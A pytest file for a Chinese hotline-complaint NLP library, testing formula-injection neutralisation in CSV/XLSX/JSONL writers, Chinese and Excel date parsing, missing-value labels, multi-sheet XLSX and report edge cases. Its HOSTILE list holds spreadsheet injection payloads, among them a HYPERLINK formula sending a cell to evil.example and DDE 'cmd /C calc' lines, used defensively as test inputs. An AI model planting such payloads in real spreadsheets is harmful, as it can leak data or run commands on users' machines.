"""Hostile text and messy real-world exports (issue 17 items 1, 5, 6, 7, 10).

Library-level checks on small files written here: formula injection neutralised
in every spreadsheet writer, the dates Chinese exports use, labels that mean
"missing", multi-sheet and merged-header XLSX, degenerate periods.
"""

from __future__ import annotations

import json

import openpyxl
import pandas as pd
import pytest
from hotline_nlp.corpus.loaders import DataError, load_complaints
from hotline_nlp.corpus.validate import Limits

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+86 138 0000 0000 来电反映噪音",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "小区停水;=1+1",
]


def _frame():
    return pd.DataFrame(
        {"诉求编号": [f"A{i}" for i in range(len(HOSTILE))], "诉求内容": HOSTILE, "score": range(-3, 3)}
    )


# --- item 1: formula injection ---------------------------------------------


def test_classify_tables_neutralise_formulas_but_json_keeps_text(tmp_path):
    from hotline_nlp.classifier.tagging import write_table

    df = _frame()
    write_table(df, tmp_path / "t.xlsx")
    write_table(df, tmp_path / "t.csv")
    write_table(df, tmp_path / "t.jsonl")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
    texts = [ws.cell(r, 2).value for r in range(2, 2 + len(HOSTILE))]
    assert all(t.startswith("'") for t in texts[:5])
    assert [ws.cell(r, 3).value for r in range(2, 5)] == [-3, -2, -1]  # numbers stay numbers
    raw = (tmp_path / "t.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in raw and '"小区停水;=1+1"' in raw  # quoted: ';' cannot split the cell
    assert "\n=" not in raw and ",=" not in raw and ",@" not in raw
    lines = (tmp_path / "t.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(x)["诉求内容"] for x in lines] == HOSTILE  # original text recoverable
    # and the loader gives the original text back from the neutralised CSV/XLSX
    for name in ("t.csv", "t.xlsx"):
        back = load_complaints(tmp_path / name)
        assert back.frame["body"].tolist() == [" ".join(t.split()) for t in HOSTILE]


def test_rejects_and_figures_csv_are_neutralised(tmp_path):
    from hotline_nlp.bulletin.figures import FigureBook

    src = tmp_path / "in.csv"
    pd.DataFrame({"诉求编号": ["=1+1", "=1+1"], "诉求内容": ["a", "b"]}).to_csv(src, index=False)
    loaded = load_complaints(src)
    assert loaded.n_rejected_rows == 1  # duplicate id
    text = loaded.write_rejects(tmp_path / "rej.csv").read_text(encoding="utf-8")
    assert "'=1+1" in text and ",=" not in text
    book = FigureBook()
    book.add("k", "=HYPERLINK(1)类 诉求量", 3, "3", "一级分类=@cmd")
    csv = book.to_csv()
    assert "'=HYPERLINK(1)" in csv and "'一级分类" not in csv and ",=" not in csv and ",@" not in csv


def test_store_export_csv_is_neutralised_and_reimports_unchanged(tmp_path):
    from hotline_nlp.service.store.db import open_store
    from hotline_nlp.service.store.transfer import export_file, import_file

    src = tmp_path / "in.csv"
    pd.DataFrame(
        {
            "诉求编号": ["C1", "C2"],
            "诉求内容": [HOSTILE[0], "路灯坏了"],
            "受理时间": ["2024-05-01 08:00", "2024-05-02"],
        }
    ).to_csv(src, index=False)
    engine = open_store(f"sqlite:///{tmp_path / 'store.db'}")
    assert import_file(engine, src).created == 2
    export_file(engine, tmp_path / "out.csv")
    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ",=" not in text
    again = import_file(engine, tmp_path / "out.csv")
    assert (again.created, again.conflicts) == (0, [])  # same content: the quote is not part of it
    export_file(engine, tmp_path / "out.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_xlsx_output_survives_control_characters(tmp_path):
    from hotline_nlp.classifier.tagging import write_table

    df = pd.DataFrame({"诉求内容": ["噪音\x0b扰民\x1f", "正常"], "id": ["1", "2"]})
    notes = write_table(df, tmp_path / "c.xlsx")
    assert notes and "1 cell" in notes[0]
    assert openpyxl.load_workbook(tmp_path / "c.xlsx").active["A2"].value == "噪音扰民"


# --- item 5: dates -----------------------------------------------------------


def _dated(tmp_path, dates, name="d.csv"):
    path = tmp_path / name
    pd.DataFrame(
        {
            "诉求编号": [f"D{i}" for i in range(len(dates))],
            "诉求内容": ["噪音"] * len(dates),
            "受理时间": dates,
        }
    ).to_csv(path, index=False)
    return path


def test_chinese_and_excel_serial_dates_are_read(tmp_path):
    dates = ["2024年5月1日", "2024年05月01日 08时00分", "45413", "2024年5月1日 8:30", "45413.5"]
    got = load_complaints(_dated(tmp_path, dates), require=("created_at",))
    assert got.n_rejected_rows == 0
    assert [str(t) for t in got.frame["created_at"]] == [
        "2024-05-01 00:00:00",
        "2024-05-01 08:00:00",
        "2024-05-01 00:00:00",
        "2024-05-01 08:30:00",
        "2024-05-01 12:00:00",
    ]
    assert any("Excel serial" in n for n in got.notes)


def test_ambiguous_day_month_is_a_choice_or_a_reject(tmp_path):
    path = _dated(tmp_path, ["01/05/2024", "02/05/2024", "2024-05-03"])
    silent = load_complaints(path, require=("created_at",))
    assert silent.n_rejected_rows == 2  # never a silent month-first read
    assert "--dayfirst" in silent.rejects["problem"].iloc[0]
    day = load_complaints(path, require=("created_at",), limits=Limits(dayfirst=True))
    assert day.frame["created_at"].dt.month.tolist() == [5, 5, 5]
    month = load_complaints(path, require=("created_at",), limits=Limits(dayfirst=False))
    assert month.frame["created_at"].dt.month.tolist() == [1, 2, 5]
    inferred = load_complaints(
        _dated(tmp_path, ["01/05/2024", "25/05/2024"], "i.csv"), require=("created_at",)
    )
    assert inferred.frame["created_at"].dt.day.tolist() == [1, 25]
    assert any("day-first" in n for n in inferred.notes)


# --- item 6: labels meaning missing -----------------------------------------


def test_missing_markers_are_not_classes(tmp_path):
    path = tmp_path / "l.csv"
    labels = ["NaN", "nan", "NULL", "None", "#N/A", "城乡建设", "环境保护"]
    pd.DataFrame(
        {"编号": [str(i) for i in range(7)], "诉求内容": ["路灯坏了"] * 7, "一级分类": labels}
    ).to_csv(path, index=False)
    got = load_complaints(path, require=("labels",))
    assert sorted(got.frame["level1"].unique()) == ["城乡建设", "环境保护"]
    assert got.n_rejected_rows == 5
    assert got.rejects["problem"].str.contains("means no value").all()
    assert any("read as missing" in n for n in got.notes)


# --- item 7: XLSX sheets, merged headers ---------------------------------------


def _sheet(ws, header, rows):
    ws.append(header)
    for r in rows:
        ws.append(r)


def test_xlsx_reads_every_sheet_with_complaints(tmp_path):
    wb = openpyxl.Workbook()
    _sheet(wb.active, ["编号", "诉求内容"], [["a1", "停水"], ["a2", "停电"]])
    wb.active.title = "1月"
    _sheet(wb.create_sheet("2月"), ["编号", "诉求内容"], [["b1", "噪音"]])
    _sheet(wb.create_sheet("说明"), ["说明"], [["本表由热线平台导出"]])
    wb.save(tmp_path / "w.xlsx")
    got = load_complaints(tmp_path / "w.xlsx")
    assert got.frame["id"].tolist() == ["a1", "a2", "b1"]
    assert got.frame["row"].tolist() == ["1月!2", "1月!3", "2月!2"]
    assert any("1月, 2月" in n for n in got.notes) and any("说明" in n for n in got.notes)
    assert load_complaints(tmp_path / "w.xlsx", sheet="2月").frame["id"].tolist() == ["b1"]
    _sheet(wb.create_sheet("3月"), ["编号", "留言详情", "区县"], [["c1", "路灯", "东区"]])
    wb.save(tmp_path / "w.xlsx")
    with pytest.raises(DataError, match="1月.*3月.*--sheet"):
        load_complaints(tmp_path / "w.xlsx")


def test_merged_title_body_header_keeps_the_body(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    _sheet(
        ws, ["编号", "诉求标题+诉求内容", None], [["1", "停水", "小区停水三天"], ["2", "噪音", "夜间施工"]]
    )
    ws.merge_cells("B1:C1")
    wb.save(tmp_path / "m.xlsx")
    got = load_complaints(tmp_path / "m.xlsx")
    assert got.frame["body"].tolist() == ["小区停水三天", "夜间施工"]
    assert got.frame["title"].tolist() == ["停水", "噪音"]
    assert any("merged header" in n for n in got.notes)


# --- item 10: degenerate periods, 新出现 -----------------------------------------


def test_change_below_minimum_base_is_not_a_percentage():
    from hotline_nlp.bulletin.hotspot_document import _categories
    from hotline_nlp.topics.category_stats import MIN_CHANGE_BASE, change_note, change_ratio

    assert change_ratio(2560, 1) is None and change_ratio(20, MIN_CHANGE_BASE) == 1.0
    assert change_note(5, 0) == "新增" and "不适用" in change_note(2560, 1)
    paragraphs = _categories(
        {
            "categories": [
                {
                    "category": "城乡建设",
                    "count": 2560,
                    "share": 0.5,
                    "previous_count": 1,
                    "last_year_count": None,
                    "change_vs_previous": change_ratio(2560, 1),
                    "change_vs_last_year": None,
                    "subcategories": [],
                }
            ]
        }
    )
    text = "".join(p.text for p in paragraphs)
    assert "255900" not in text and "不适用" in text


def test_new_issue_needs_a_recent_first_seen():
    from hotline_nlp.topics.periods import parse_period
    from hotline_nlp.topics.status import is_new

    week = parse_period("2019-W37")
    assert is_new("new", "2019-W37", week, week.start.date().isoformat())
    assert not is_new("new", "2019-W37", week, "2018-10-15")  # first seen 47 weeks before
    assert not is_new("history", "2019-W37", week, week.start.date().isoformat())


def test_report_for_empty_period_is_an_error_not_a_zero_bulletin(demo_csv):
    from hotline_nlp.bulletin.context import NoDataError, Options
    from hotline_nlp.bulletin.report import build_report

    frame = load_complaints(demo_csv, require=("created_at",)).frame
    with pytest.raises(NoDataError, match="no complaints in 2001-05"):
        build_report(frame, "2001-05", Options())
    steps = []
    build_report(frame, "2024-11", Options(), progress=steps.append)
    assert steps[0] == "总体情况" and len(steps) >= 3  # report shows progress (item 11)
